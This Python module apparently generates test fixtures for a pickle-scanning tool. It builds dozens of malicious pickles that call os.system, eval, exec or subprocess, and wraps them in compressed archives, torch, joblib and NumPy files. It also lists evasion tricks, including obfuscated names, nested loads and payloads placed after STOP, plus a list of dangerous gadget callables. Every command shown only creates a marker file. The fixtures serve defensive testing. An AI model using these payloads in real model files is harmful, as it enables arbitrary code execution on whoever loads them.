# ruff: noqa: E501 - one attack a line
"""Pickles that would run a command, written opcode by opcode, and the wrappings they are hidden in.

All of them try to create one file (`hit`); no test ever loads one in its own process.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Mapping
from pathlib import Path


def text(value: str) -> bytes:
    """SHORT_BINUNICODE or BINUNICODE."""
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data


def quoted(value: str) -> bytes:
    """STRING."""
    return b"S'" + value.encode() + b"'\n"


def named(module: str, name: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{name}\n".encode()


def stacked(module: str, name: str) -> bytes:
    """STACK_GLOBAL."""
    return text(module) + text(name) + b"\x93"


def call(callee: bytes, *args: bytes) -> bytes:
    """MARK, arguments, TUPLE, REDUCE."""
    return callee + b"(" + b"".join(args) + b"tR"


def commands(hit: Path) -> dict[str, bytes]:
    """Name → pickle that runs a command when `pickle.loads` reads it."""
    touch = f"touch {hit}"
    order = quoted(touch)
    code = f'__import__("os").system("{touch}")'
    system = call(named("os", "system"), order)
    module = call(named("builtins", "__import__"), quoted("os"))
    spare = named("argparse", "Namespace")
    inner = call(named("posix", "system"), order) + b"."
    state = quoted("__setstate__") + named("os", "system")
    return {
        "reduce, protocol 0": system + b".",
        "reduce, posix": call(named("posix", "system"), order) + b".",
        "reduce, protocol 1": b"(" + order + b"t0" + system + b".",
        "reduce, protocol 2": b"\x80\x02" + named("os", "system") + b"X" + struct.pack("<I", len(touch)) + touch.encode() + b"\x85R.",
        "reduce, protocol 3": b"\x80\x03" + call(named("posix", "system"), text(touch)) + b".",
        "stack_global": b"\x80\x04" + call(stacked("os", "system"), text(touch)) + b".",
        "stack_global, protocol 5": b"\x80\x05" + call(stacked("posix", "system"), text(touch)) + b".",
        "stack_global out of the memo": b"\x80\x04" + text("os") + b"\x940" + text("system") + b"\x940h\x00h\x01\x93" + text(touch) + b"\x85R.",
        "in a frame": b"\x80\x04\x95" + struct.pack("<Q", len(call(stacked("os", "system"), text(touch))) + 1) + call(stacked("os", "system"), text(touch)) + b".",
        "inst": b"(" + order + b"ios\nsystem\n.",
        "obj": b"(" + named("os", "system") + order + b"o.",
        "build with __setstate__": spare + b")\x81}" + state + b"sb" + order + b"b.",
        "build of a class": named("string", "Template") + b"p0\n(N}" + state + b"stb0g0\n)\x81" + order + b"b.",
        "eval": call(named("builtins", "eval"), quoted(code)) + b".",
        "exec, python 2's name": call(named("__builtin__", "eval"), quoted(code)) + b".",
        "exec": b"\x80\x04" + call(stacked("builtins", "exec"), text(code)) + b".",
        "getattr of a module": call(call(named("builtins", "getattr"), module, quoted("system")), order) + b".",
        "attrgetter": call(call(call(named("operator", "attrgetter"), quoted("system")), module), order) + b".",
        "through another module": b"\x80\x04" + call(stacked("shutil", "os.system"), text(touch)) + b".",
        "through a harmless one": b"\x80\x04" + call(stacked("fnmatch", "os.system"), text(touch)) + b".",
        "import_module": call(call(named("builtins", "getattr"), call(named("importlib", "import_module"), quoted("os")), quoted("system")), order) + b".",
        "nested, pickle.loads": call(named("pickle", "loads"), b"C" + bytes([len(inner)]) + inner) + b".",
        "nested, _pickle.loads": call(named("_pickle", "loads"), b"C" + bytes([len(inner)]) + inner) + b".",
        "getoutput": call(named("subprocess", "getoutput"), order) + b".",
        "check_output": call(named("subprocess", "check_output"), b"(" + quoted("touch") + quoted(str(hit)) + b"l") + b".",
        "popen": call(call(named("builtins", "getattr"), call(named("os", "popen"), order), quoted("read"))) + b".",
        "a name made on the way": b"\x80\x04" + text("os") + call(named("builtins", "str"), text("system")) + b"\x93" + text(touch) + b"\x85R.",
        "a name decoded on the way": b"\x80\x04" + text("os") + call(named("codecs", "decode"), text("flfgrz"), text("rot13")) + b"\x93" + text(touch) + b"\x85R.",
        "truncated": system,
        "its result thrown away": system + b"0N.",
        "callee out of the memo": named("os", "system") + b"p0\n0g0\n(" + order + b"tR.",
        "callee out of a large memo": named("os", "system") + b"r\x00\x00\x01\x000j\x00\x00\x01\x00(" + order + b"tR.",
        "duplicated": named("os", "system") + b"2(" + order + b"tR0.",
        "in a dict": b"}" + quoted("a") + system + b"s.",
        "in a list": b"](" + system + b"e.",
        "in a set": b"\x80\x04\x8f(" + system + b"\x90.",
        "behind three thousand numbers": b"(" + b"I1\n" * 3000 + b"l0" + system + b".",
        "behind a long string": quoted("x" * 100_000) + b"0" + system + b".",
        "timeit": call(named("timeit", "timeit"), quoted("pass"), quoted(code), named("time", "time"), b"I1\n") + b".",
        "pty": call(named("pty", "spawn"), b"(" + quoted("touch") + quoted(str(hit)) + b"l") + b".",
        "runstring": call(named("numpy.testing._private.utils", "runstring"), quoted(code), b"}") + b".",
        "map": call(named("builtins", "list"), call(named("builtins", "map"), named("os", "system"), b"(" + order + b"l")) + b".",
        "hidden in an array": array(named("os", "system") + b"(" + order + b"tR."),
    }  # fmt: skip


def gadgets() -> dict[str, bytes]:
    """Name → pickle that is dangerous, or plainly meant to be, though loading it here does nothing."""
    names = [
        "_pickle.Unpickler", "asyncio.unix_events._UnixSubprocessTransport._start", "bdb.Bdb.run",
        "cloudpickle.cloudpickle._make_function", "code.InteractiveInterpreter.runcode", "ctypes.CDLL", "dill.loads",
        "distutils.file_util.write_file", "doctest.debug_script", "ensurepip._run_pip", "idlelib.pyshell.ModifiedInterpreter",
        "imp.load_source", "joblib.load", "lib2to3.pgen2.grammar.Grammar.loads", "logging.config.listen", "marshal.loads",
        "multiprocessing.util.spawnv_passfds", "numpy.f2py.crackfortran.myeval", "pandas.read_pickle", "pdb.run",
        "pip.main", "pkgutil.resolve_name", "profile.run", "pydoc.pipepager", "requests.get", "runpy.run_path",
        "shutil.rmtree", "socket.create_connection", "sys.modules", "test.support.script_helper.assert_python_ok",
        "torch.hub.load", "torch.load", "torch.serialization.load", "torch.storage._load_from_bytes",
        "torch.utils.cpp_extension.load_inline", "trace.Trace.run", "types.FunctionType", "urllib.request.urlopen",
        "uuid._get_command_stdout", "webbrowser.open", "zipimport.zipimporter",
    ]  # fmt: skip
    found = {f"calls {name}": call(named(*name.rsplit(".", 1)), quoted("x")) + b"." for name in names}
    return found | {
        "newobj": b"\x80\x02" + named("subprocess", "Popen") + quoted("id") + b"\x85\x81.",
        "newobj_ex": b"\x80\x04" + stacked("subprocess", "Popen") + b")}\x92.",
        "extension 1": b"\x80\x02\x82\x01)R.",
        "extension 2": b"\x80\x02\x83\x01\x01)R.",
        "extension 4": b"\x80\x02\x84\x01\x01\x01\x01)R.",
        "a protocol that is none": b"\x80\x09" + call(named("os", "system"), quoted("id")) + b".",
        "after STOP": b"N." + call(named("os", "system"), quoted("id")) + b".",
        "after STOP, with header": b"\x80\x02N.\x80\x04" + call(stacked("os", "system"), text("id")) + b".",
        "behind text that is not ASCII": b"S'\xe9'\n0" + call(named("os", "system"), quoted("id")) + b".",
        "looks like safetensors": b"\x80\x02G\0\0\0\0\0{}}0" + call(named("os", "system"), quoted("id")) + b".",
        "asks a loader by id": b"Pos\n0" + call(named("os", "system"), quoted("id")) + b".",
    }  # fmt: skip


def array(content: bytes) -> bytes:
    """A pickle that says a joblib array follows, with `content` where its bytes should be."""
    dtype = call(named("numpy", "dtype"), quoted(f"V{len(content)}"))
    wrapper = b"\x80\x02" + named("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}("
    return wrapper + quoted("dtype") + dtype + quoted("shape") + b"I1\n\x85ub" + content + b"."


def wrappings(evil: bytes) -> Mapping[str, bytes]:
    """File name → a file that holds the pickle `evil` somewhere."""
    zipped = zip_of({"archive/data.pkl": evil, "archive/data/0": b"\0" * 64})
    return {
        "plain.pkl": evil,
        "gzip.pkl.gz": gzip.compress(evil, mtime=0),
        "bz2.joblib": bz2.compress(evil),
        "xz.joblib": lzma.compress(evil),
        "lzma.joblib": lzma.compress(evil, lzma.FORMAT_ALONE),
        "zlib.joblib": zlib.compress(evil),
        "two-streams.gz": gzip.compress(b"N.", mtime=0) + gzip.compress(evil, mtime=0),
        "torch.pt": zipped,
        "zip-in-zip.zip": zip_of({"a.zip": zipped}),
        "deflated.zip": zip_of({"a": evil}, zipfile.ZIP_DEFLATED),
        "model.tar": tar_of({"model/weights": evil}),
        "model.tar.gz": gzip.compress(tar_of({"weights": evil}), mtime=0),
        "objects.npy": npy(evil),
        "objects.npz": zip_of({"arr_0.npy": npy(evil)}),
        "behind-a-pickle.pt": b"\x80\x02N." + zipped,
        "two-pickles.pt": b"\x80\x02N." + evil,
        "no-ending": evil,
        "weights.bin": evil,
    }  # fmt: skip


def npy(content: bytes, descr: str = "'|O'", shape: str = "(1,)") -> bytes:
    """A .npy file of version 1."""
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}".encode()
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + content


def zip_of(files: Mapping[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    """A ZIP archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return buffer.getvalue()


def tar_of(files: Mapping[str, bytes]) -> bytes:
    """A TAR archive."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in files.items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return buffer.getvalue()
